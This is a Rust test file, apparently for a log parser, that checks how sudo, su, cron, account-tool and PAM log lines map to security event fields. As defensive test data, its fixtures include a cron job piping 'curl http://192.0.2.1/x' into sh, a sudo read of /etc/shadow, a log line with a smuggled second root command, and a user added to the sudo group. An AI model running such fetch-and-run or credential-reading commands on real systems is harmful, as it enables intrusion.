//! sudo, su, cron, the account tools and PAM.

mod check;

use check::message;

#[test]
fn sudo_commands_and_refusals() {
    for (text, expected) in [
        (
            "alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow",
            &[
                "event.action=sudo_command",
                "event.outcome=success",
                "event.category=process",
                "user.name=alice",
                "user.effective.name=root",
                "process.command_line=/usr/bin/cat /etc/shadow",
                "process.working_directory=/home/alice",
                "process.tty.name=pts/0",
                "related.user=alice,root",
                "picket.event_type=SUDO_ESCALATION",
                "event.severity=2",
            ][..],
        ),
        (
            "bob : TTY=pts/1 ; PWD=/ ; USER=postgres ; GROUP=adm ; ENV=A=b ; COMMAND=/bin/sh -c echo a ; echo b",
            &[
                "user.effective.name=postgres",
                "group.name=adm",
                "process.command_line=/bin/sh -c echo a ; echo b",
            ],
        ),
        (
            "bob : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/bash",
            &[
                "event.action=sudo_failure",
                "event.outcome=failure",
                "event.reason=incorrect_password",
                "picket.repeated=3",
                "user.name=bob",
                "process.command_line=/bin/bash",
                "picket.event_type=SUDO_FAIL",
            ],
        ),
        (
            "eve : user NOT in sudoers ; TTY=pts/2 ; PWD=/home/eve ; USER=root ; COMMAND=/usr/bin/id",
            &[
                "event.action=sudo_failure",
                "event.reason=not_in_sudoers",
                "user.name=eve",
                "event.severity=4",
            ],
        ),
        (
            "eve : command not allowed ; TTY=pts/2 ; PWD=/home/eve ; USER=root ; COMMAND=/usr/bin/id",
            &["event.action=sudo_failure", "event.reason=command_not_allowed"],
        ),
        (
            "eve : a password is required ; PWD=/home/eve ; USER=root ; COMMAND=/usr/bin/id",
            &[
                "event.action=sudo_failure",
                "event.reason=password_required",
                "process.tty.name=",
            ],
        ),
        (
            "eve : TTY=pts/0 ; PWD=/tmp/a ; USER=eve ; COMMAND=ls ; USER=root ; COMMAND=/bin/sh",
            &[
                "picket.warnings=ambiguous text",
                "process.command_line=ls ; USER=root ; COMMAND=/bin/sh",
            ],
        ),
        (
            "pam_unix(sudo:auth): authentication failure; logname=bob uid=1000 euid=0 tty=/dev/pts/1 ruser=bob rhost=  user=bob",
            &[
                "event.action=pam_auth_failure",
                "user.name=bob",
                "source.user.name=bob",
                "source.ip=",
            ],
        ),
        (
            "pam_unix(sudo:session): session opened for user root(uid=0) by alice(uid=1000)",
            &[
                "event.action=session_opened",
                "user.name=alice",
                "user.id=1000",
                "user.effective.name=root",
                "related.user=alice,root",
            ],
        ),
        ("unable to resolve host web-01", &["event.action=", "process.name=sudo"]),
    ] {
        message("sudo", text, expected);
        message(
            "sudo",
            text,
            &["process.name=sudo", "picket.log_type=sudo", "event.dataset=system.auth"],
        );
    }
}

#[test]
fn su() {
    for (text, expected) in [
        (
            "(to root) alice on pts/0",
            &[
                "event.action=su_session",
                "event.outcome=success",
                "user.name=alice",
                "user.effective.name=root",
                "process.tty.name=pts/0",
            ][..],
        ),
        (
            "FAILED SU (to root) bob on pts/1",
            &[
                "event.action=su_failure",
                "event.outcome=failure",
                "user.name=bob",
                "user.effective.name=root",
            ],
        ),
        (
            "FAILED SU (to x) root on tty1) bob on pts/1",
            &["user.name=bob", "user.effective.name=x) root on tty1"],
        ),
        (
            "Successful su for root by alice",
            &["event.action=su_session", "user.name=alice", "user.effective.name=root"],
        ),
        (
            "FAILED su for root by bob",
            &["event.action=su_failure", "user.name=bob"],
        ),
        (
            "+ /dev/pts/0 alice:root",
            &[
                "event.action=su_session",
                "user.name=alice",
                "process.tty.name=/dev/pts/0",
            ],
        ),
        (
            "- pts/1 bob:root",
            &["event.action=su_failure", "user.name=bob", "user.effective.name=root"],
        ),
        (
            "pam_unix(su-l:session): session opened for user root(uid=0) by alice(uid=1000)",
            &["event.action=session_opened"],
        ),
    ] {
        message("su", text, expected);
        message("su", text, &["process.name=su", "picket.log_type=su"]);
    }
}

#[test]
fn cron() {
    for (program, text, expected) in [
        (
            "CRON",
            "(root) CMD (cd / && run-parts --report /etc/cron.hourly)",
            &[
                "event.action=cron_command",
                "user.name=root",
                "process.command_line=cd / && run-parts --report /etc/cron.hourly",
            ][..],
        ),
        (
            "CRON",
            "(www-data) CMD (curl http://192.0.2.1/x | sh (now))",
            &["process.command_line=curl http://192.0.2.1/x | sh (now)"],
        ),
        (
            "CRON",
            "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
            &["event.action=session_opened", "user.name=root"],
        ),
        (
            "cron",
            "(CRON) INFO (Running @reboot jobs)",
            &["event.action=cron_message", "user.name="],
        ),
        (
            "crontab",
            "(alice) REPLACE (alice)",
            &[
                "event.action=crontab_replaced",
                "user.name=alice",
                "user.target.name=alice",
            ],
        ),
        (
            "crontab",
            "(root) BEGIN EDIT (bob)",
            &["event.action=crontab_edited", "user.name=root", "user.target.name=bob"],
        ),
    ] {
        message(program, text, expected);
        message(
            program,
            text,
            &[&format!("process.name={program}"), "picket.log_type=cron"],
        );
    }
}

#[test]
fn accounts() {
    for (program, text, expected) in [
        (
            "useradd",
            "new user: name=mallory, UID=1002, GID=1002, home=/home/mallory, shell=/bin/bash, from=/dev/pts/0",
            &[
                "event.action=user_added",
                "event.category=iam",
                "event.type=user,creation",
                "user.name=mallory",
                "user.target.name=mallory",
                "user.target.id=1002",
                "system.auth.useradd.shell=/bin/bash",
                "process.tty.name=/dev/pts/0",
                "picket.event_type=ACCOUNT_CREATE",
                "event.severity=4",
            ][..],
        ),
        (
            "useradd",
            "new group: name=mallory, GID=1002",
            &["event.action=group_added", "group.name=mallory", "group.id=1002"],
        ),
        (
            "useradd",
            "add 'mallory' to group 'sudo'",
            &[
                "event.action=user_added_to_group",
                "user.target.name=mallory",
                "group.name=sudo",
            ],
        ),
        (
            "usermod",
            "add 'mallory' to shadow group 'sudo'",
            &["event.action=user_added_to_group", "group.name=sudo"],
        ),
        (
            "gpasswd",
            "user mallory added by root to group sudo",
            &[
                "event.action=user_added_to_group",
                "user.name=root",
                "user.target.name=mallory",
                "group.name=sudo",
            ],
        ),
        (
            "gpasswd",
            "user mallory removed by root from group sudo",
            &["event.action=user_removed_from_group", "user.target.name=mallory"],
        ),
        (
            "usermod",
            "change user 'bob' shell from '/usr/sbin/nologin' to '/bin/bash'",
            &[
                "event.action=user_modified",
                "user.name=bob",
                "system.auth.useradd.shell=/bin/bash",
            ],
        ),
        (
            "usermod",
            "lock user 'bob' password",
            &["event.action=user_modified", "user.name=bob"],
        ),
        (
            "userdel",
            "delete user 'mallory'",
            &["event.action=user_deleted", "user.target.name=mallory"],
        ),
        (
            "userdel",
            "removed group 'mallory' owned by 'mallory'",
            &["event.action=group_deleted", "group.name=mallory"],
        ),
        (
            "groupadd",
            "group added to /etc/group: name=ops, GID=1003",
            &["event.action=group_added", "group.name=ops"],
        ),
        (
            "groupdel",
            "group 'ops' removed",
            &["event.action=group_deleted", "group.name=ops"],
        ),
        (
            "passwd",
            "pam_unix(passwd:chauthtok): password changed for bob",
            &["event.action=password_changed", "user.name=bob"],
        ),
        (
            "passwd",
            "password for 'bob' changed by 'root'",
            &[
                "event.action=password_changed",
                "user.name=root",
                "user.target.name=bob",
            ],
        ),
        (
            "chpasswd",
            "pam_unix(chpasswd:chauthtok): password changed for bob",
            &["event.action=password_changed", "user.target.name=bob"],
        ),
        (
            "chage",
            "changed password expiry for bob",
            &[
                "event.action=user_modified",
                "user.target.name=bob",
                "event.reason=password_expiry",
            ],
        ),
    ] {
        message(program, text, expected);
        message(
            program,
            text,
            &[
                &format!("process.name={program}"),
                "picket.log_type=accounts",
                "event.dataset=system.auth",
            ],
        );
    }
}

#[test]
fn pam_in_any_program() {
    message(
        "login",
        "pam_unix(login:auth): authentication failure; logname=LOGIN uid=0 euid=0 tty=tty1 ruser= rhost=  user=root",
        &[
            "process.name=login",
            "picket.log_type=pam",
            "event.action=pam_auth_failure",
            "user.name=root",
            "event.dataset=system.auth",
        ],
    );
    message(
        "systemd",
        "pam_unix(systemd-user:session): session opened for user alice(uid=1000) by (uid=0)",
        &["event.action=session_opened"],
    );
}
